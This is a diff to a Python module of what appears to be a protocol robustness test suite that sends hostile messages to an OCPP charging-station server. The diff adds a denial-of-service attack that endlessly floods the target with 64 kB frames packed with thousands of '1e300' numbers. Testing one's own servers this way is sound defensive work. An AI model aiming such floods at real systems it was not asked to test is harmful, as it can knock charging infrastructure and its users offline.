@@ -1,6 +1,6 @@
 """Attacks with one message that is costly to parse, to validate or to understand.
 
-Knows nothing of floods: each message waits for the answer to the one before.
+In most each message waits for the answer to the one before.
 """
 
 from __future__ import annotations
@@ -11,7 +11,7 @@ from itertools import cycle
 
 from hostile.attack import FLOOD, NEAR_LIMIT, Target, attack
 from hostile.ocpp import TIME, opener, transaction_event
-from hostile.wire import CLOSE, Line, Refused, call
+from hostile.wire import CLOSE, Line, Refused, Sender, call, endlessly, flood, frame
 
 
 def one_by_one(target: Target, texts: Iterable[bytes], opened: Callable[[], Line]) -> None:
@@ -93,6 +93,13 @@ def unknown_members(target: Target) -> None:
     texts = [text.replace(b'"1"', b'"u%d"' % number, 1) + b"}]" for number in range(20)]
     target.begin()
     one_by_one(target, cycle(texts), opener(target))
+
+
+@attack("slow numbers for an action", "-", "64 messages of 64 kB in one write, with 10,600 times 1e300 for an action each")
+def slow_numbers(target: Target) -> None:
+    text = b'[2,"9",[%s],{}]' % b",".join([b"1e300"] * 10_600)
+    target.begin()
+    flood(target, [Sender(target, opener(target), endlessly(64 * frame(text)))])
 
 
 @attack("control characters in actions", "A15b, F7", "CR, LF and ESC in actions and ids, one after the other")
